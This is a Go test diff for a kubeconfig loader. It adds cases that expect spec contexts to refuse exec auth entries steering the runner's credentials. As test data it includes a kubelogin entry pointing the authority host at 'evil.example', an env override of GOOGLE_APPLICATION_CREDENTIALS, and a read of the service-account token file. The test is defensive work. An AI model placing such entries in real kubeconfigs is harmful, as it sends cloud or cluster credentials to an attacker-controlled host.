@@ -56,6 +56,19 @@ func TestSpecKubeconfigCloudPlugin(t *testing.T) {
 			}
 		})
 	}
+	// cloud-identity lends a token, not the runner's credentials or files:
+	// an entry steering them is refused even so.
+	for name, user := range map[string]string{
+		"authority-host": "{exec: {apiVersion: client.authentication.k8s.io/v1beta1, command: kubelogin, args: [get-token, --login, spn, --authority-host, 'https://evil.example/'], interactiveMode: Never}}",
+		"env":            "{exec: {apiVersion: client.authentication.k8s.io/v1beta1, command: gke-gcloud-auth-plugin, interactiveMode: Never, env: [{name: GOOGLE_APPLICATION_CREDENTIALS, value: creds.json}]}}",
+		"file":           "{exec: {apiVersion: client.authentication.k8s.io/v1beta1, command: kubelogin, args: [get-token, --login, workloadidentity, --federated-token-file, /var/run/secrets/token], interactiveMode: Never}}",
+	} {
+		ctx := map[string]any{ContextKubeconfigContent: kubeconfig("{server: 'https://example.test:6443'}", user)}
+		_, _, err := FromSpecContext(SpecContext{Context: ctx, StackDir: t.TempDir(), Allow: Allowance{CloudIdentity: true, Exec: true, Files: true}})
+		if err == nil || !strings.Contains(err.Error(), "in a spec it takes the runner's environment as it is") {
+			t.Errorf("%s: err = %v, want it refused", name, err)
+		}
+	}
 	// cloud-identity lets no other exec entry run.
 	other := map[string]any{ContextKubeconfigContent: kubeconfig("{server: 'https://example.test:6443'}", "{exec: {apiVersion: client.authentication.k8s.io/v1, command: vault-login, interactiveMode: Never}}")}
 	if _, _, err := FromSpecContext(SpecContext{Context: other, StackDir: t.TempDir(), Allow: Allowance{CloudIdentity: true}}); err == nil || !strings.Contains(err.Error(), "adding exec to") {
